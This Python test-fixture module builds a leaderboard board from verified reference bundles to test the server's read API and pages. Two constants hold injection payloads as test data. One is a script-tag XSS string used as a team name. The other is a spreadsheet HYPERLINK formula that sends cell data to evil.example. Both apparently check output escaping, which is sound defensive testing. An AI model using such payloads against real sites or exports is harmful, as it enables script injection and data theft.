"""A board with real entries for the read-side tests: the committed reference bundles, verified
by replay (once per test process), stored under ``data_dir/bundles/`` and recorded through
:mod:`leaderboard.server.crud` as the worker records them; served by the read routers mounted on a
small app (no workers, no write side)."""

from __future__ import annotations

import functools
import hashlib
import json
from dataclasses import dataclass, field, replace
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

from fastapi import FastAPI
from fastapi.testclient import TestClient
from sqlalchemy.orm import Session, sessionmaker

from leaderboard.core.bundle import MANIFEST, SUBMISSION, Bundle, read_bundle, seal, stored_form
from leaderboard.core.ranking import entry_summary
from leaderboard.core.verify import Verdict, verify_bundle
from leaderboard.server import crud
from leaderboard.server.api import board as board_api
from leaderboard.server.db.session import open_database
from leaderboard.server.settings import Settings
from leaderboard.server.web import pages
from leaderboard.tools.attacks import unpack

SEED = Path(__file__).resolve().parents[2] / "leaderboard" / "data" / "smoke"
T0 = datetime(2030, 1, 1, 12, 0, tzinfo=UTC)
PARTIAL = "smoke-v1.n2.comm-on.partial.skill"
FULL = "smoke-v1.n2.comm-on.full.skill"
OLD_FULL = "smoke-v0.n2.comm-on.full.skill"
SCRIPT_TEAM = "<script>alert(1)</script>"
FORMULA_METHOD = '=HYPERLINK("http://evil.example/?"&A1,"click")'


@functools.cache
def verified(name: str) -> tuple[Bundle, Verdict, dict[str, Any]]:
    """The reference bundle ``<name>-smoke-v1.tar.gz`` read, verified by replay, and the
    summary the worker stores for it (rows with the server's recomputed metrics)."""
    with (SEED / f"{name}-smoke-v1.tar.gz").open("rb") as stream:
        bundle = read_bundle(stream)
    verdict = verify_bundle(bundle)
    assert verdict.ok, verdict.explanation
    recomputed = {e.key: e.metrics for e in verdict.episodes}
    rows = [{**row, **recomputed[row["key"]]} for row in bundle.rows]
    return bundle, verdict, entry_summary(rows, bundle.traces)


def submit_verified(
    sessions: sessionmaker[Session],
    data_dir: Path,
    team: str,
    name: str,
    *,
    track: str | None = None,
    now: datetime = T0,
    salt: str = "",
    **fields: Any,
) -> int:
    """Store reference bundle ``name`` as a submission of ``team`` (created when missing),
    record its verified verdict, and return the submission's id. ``track`` stores it on another
    track key than its own (to stand for a track of an older suite version); ``salt`` gives
    its episodes trace hashes of their own (an entry of its own, not a reproduction);
    ``fields`` override those of its submission.yaml."""
    bundle, verdict, summary = verified(name)
    episodes, hashes = verdict.episodes, verdict.trace_hashes
    if salt:
        episodes = tuple(replace(e, trace_hash=_salted(salt, e.trace_hash)) for e in episodes)
        hashes = frozenset(_salted(salt, h) for h in hashes)
    key = track or bundle.track.key
    suite, version = key.split(".")[0].rsplit("-", 1)
    # What the server keeps of an accepted upload (leaderboard.server.services.uploads.accept).
    stored = stored_form(bundle)
    with sessions() as session:
        team_row = crud.team_by_name(session, team) or crud.create_team(session, team, now)
        if crud.same_upload(session, team_row.id, hashlib.sha256(stored).hexdigest()):
            # The team sends these traces again: as new bytes (a comment in its
            # submission.yaml), since the same bytes again are its first submission.
            stored = _resealed(stored, f"# sent again at {now.isoformat()} for {key}\n")
    sha256 = hashlib.sha256(stored).hexdigest()
    relative = f"bundles/{sha256}.tar.gz"
    (data_dir / "bundles").mkdir(parents=True, exist_ok=True)
    (data_dir / relative).write_bytes(stored)
    with sessions() as session:
        upload = crud.Upload(
            track=key,
            suite=suite,
            suite_version=version,
            bundle_path=relative,
            bundle_sha256=sha256,
            fields={**bundle.submission, **fields},
        )
        submission = crud.store_submission(session, team_row.id, upload, daily_limit=3, now=now)
        claimed = crud.claim_next(session, now)
        assert claimed is not None and claimed.id == submission.id
        crud.record_verdict(
            session,
            submission.id,
            ok=True,
            reason="",
            episodes=episodes,
            summary=summary,
            trace_hashes=hashes,
            now=now,
        )
        return submission.id


def _salted(salt: str, trace_hash: str) -> str:
    return hashlib.sha256(f"{salt}{trace_hash}".encode()).hexdigest()


def _resealed(data: bytes, comment: str) -> bytes:
    """Bundle ``data`` with ``comment`` appended to its submission.yaml."""
    contents = unpack(data)
    manifest = json.loads(contents.pop(MANIFEST))
    contents[SUBMISSION] += comment.encode()
    return seal(manifest, contents)


def board_app(sessions: sessionmaker[Session], data_dir: Path) -> FastAPI:
    """The read side's routers (JSON API and pages) on an app of their own."""
    app = FastAPI()
    app.include_router(board_api.router)
    app.include_router(pages.router)
    app.state.sessions = sessions
    app.state.settings = Settings(data_dir=data_dir, secret=b"s" * 32)
    return app


@dataclass
class Board:
    """A board and a client of its read routers; ``entries``: label -> entry id."""

    client: TestClient
    sessions: sessionmaker[Session]
    data_dir: Path
    entries: dict[str, int] = field(default_factory=dict)
    submissions: dict[str, int] = field(default_factory=dict)


def entry_of(sessions: sessionmaker[Session], submission_id: int) -> int:
    with sessions() as session:
        submission = crud.get_submission(session, submission_id)
        assert submission is not None and submission.entry is not None
        return submission.entry.id


def empty_board(tmp_path: Path) -> Board:
    """A board without entries on SQLite in ``tmp_path / "data"``."""
    data_dir = tmp_path / "data"
    data_dir.mkdir()
    sessions = open_database(f"sqlite:///{data_dir / 'leaderboard.sqlite3'}")
    return Board(TestClient(board_app(sessions, data_dir)), sessions, data_dir)


def make_board(tmp_path: Path) -> Board:
    """A board on SQLite in ``tmp_path``:

    - track PARTIAL: ``heuristic`` (SR 2/6), ``llm_planner`` by SCRIPT_TEAM (SR 0/6) and
      ``random`` with the method FORMULA_METHOD (SR 0/6); their intervals overlap, so all three
      share rank 1; speedup is defined for heuristic only;
    - track FULL: ``oracle``, and a second submission of the same traces by another team,
      recorded as a reproduction;
    - track OLD_FULL (suite version v0): the oracle's traces stored as an older version.
    """
    out = empty_board(tmp_path)
    sessions, data_dir = out.sessions, out.data_dir
    plan = [
        ("heuristic", "reference", "heuristic", {}, None),
        ("llm_planner", SCRIPT_TEAM, "llm_planner", {}, None),
        ("random", "reference", "random", {"method": FORMULA_METHOD}, None),
        ("oracle", "reference", "oracle", {"code_url": "https://example.org/oracle"}, None),
        ("oracle-v0", "reference", "oracle", {}, OLD_FULL),
    ]
    for k, (label, team, name, fields_, track) in enumerate(plan):
        sid = submit_verified(
            sessions, data_dir, team, name, track=track, now=T0 + timedelta(hours=k), **fields_
        )
        out.submissions[label] = sid
        out.entries[label] = entry_of(sessions, sid)
    out.submissions["oracle-again"] = submit_verified(
        sessions, data_dir, "reproducers", "oracle", now=T0 + timedelta(days=1)
    )
    return out
